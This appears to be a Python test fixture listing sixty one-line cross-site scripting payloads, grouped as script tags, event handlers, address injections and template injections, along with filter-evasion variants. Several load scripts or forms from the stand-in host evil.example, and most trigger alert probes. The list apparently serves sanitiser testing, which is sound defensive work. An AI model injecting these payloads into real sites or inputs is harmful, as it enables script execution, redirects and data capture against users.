"""Sixty texts that run where a page takes text for markup, for code or for an address (T59).

Each is one line of at most 64 characters without a space, so that a name, a first name and a word keep it as it stands. Each
would change the page's title, open a dialog, or ask a stranger.
"""

from __future__ import annotations

RUN = "document.title='run'"
SCRIPTS = [
    f"<script>{RUN}</script>",
    "<script>alert(1)</script>",
    "<SCRIPT/x>alert(2)</SCRIPT/x>",
    "<script/src=//evil.example/1.js></script>",
    "<script/src=data:,alert(3)></script>",
    "<script/type=module>alert(4)</script>",
    "<scr<script>ipt>alert(5)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(6)//</script>",
    "</script><script>alert(7)</script>",
    "</title><script>alert(8)</script>",
    "</textarea><script>alert(9)</script>",
    "</style><script>alert(10)</script>",
    "--><script>alert(11)</script><!--",
    "]]><script>alert(12)</script>",
    "<noscript><p/title='</noscript><script>alert(13)</script>'>",
    "\\u003cscript\\u003ealert(14)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(15)%3C/script%3E",
    "&lt;script&gt;alert(16)&lt;/script&gt;",
    "&#60;script&#62;alert(17)&#60;/script&#62;",
    "＜script＞alert(18)＜/script＞",
]  # fmt: skip
HANDLERS = [
    f'<img/src=x/onerror="{RUN}">',
    "<img/src=x/onerror=alert(19)>",
    '"><img/src=x/onerror=alert(20)>',
    "'><img/src=x/onerror=alert(21)>",
    "`><img/src=x/onerror=alert(22)>",
    "<IMG/SRC=x/OnErRoR=alert(23)>",
    "<img/src=//evil.example/2.png>",
    "<img/srcset=//evil.example/3.png>",
    "<svg/onload=alert(24)>",
    "<svg><script>alert(25)</script></svg>",
    "<svg><animate/onbegin=alert(26)/attributeName=x/dur=1s>",
    "<svg><use/href=//evil.example/4.svg#x></svg>",
    "<math><mtext><img/src=x/onerror=alert(27)></mtext></math>",
    "<body/onload=alert(28)>",
    "<body/onpageshow=alert(29)>",
    "<input/autofocus/onfocus=alert(30)>",
    "<select/autofocus/onfocus=alert(31)></select>",
    "<details/open/ontoggle=alert(32)>",
    "<video/src=x/onerror=alert(33)></video>",
    "<audio/src=x/onerror=alert(34)></audio>",
    "<video><source/onerror=alert(35)></video>",
    "<marquee/onstart=alert(36)>x</marquee>",
    '"onfocus=alert(37)/autofocus="',
    "'onmouseover=alert(38)/x='",
    "x/onpointerenter=alert(39)/style=position:fixed;inset:0",
    "<p/style=animation-name:x/onanimationstart=alert(40)>",
]  # fmt: skip
ADDRESSES = [
    "<iframe/src=javascript:alert(41)></iframe>",
    "<iframe/srcdoc='<script>parent.alert(42)</script>'></iframe>",
    "<object/data=//evil.example/5></object>",
    "<embed/src=//evil.example/6>",
    "<link/rel=stylesheet/href=//evil.example/7.css>",
    "<base/href=//evil.example/>",
    "<meta/http-equiv=refresh/content=0;url=//evil.example/8>",
    "<form/action=//evil.example/><button/autofocus>x</button></form>",
    "javascript:alert(43)//",
]
TEMPLATES = [
    "{{constructor.constructor('alert(44)')()}}",
    "${alert(45)}",
    "{%raw%}<script>alert(46)</script>",
    "%(name)s%(count)s<b>alert(47)</b>",
    "$&$1$`<img/src=x/onerror=alert(48)>",
]
PAYLOADS = SCRIPTS + HANDLERS + ADDRESSES + TEMPLATES
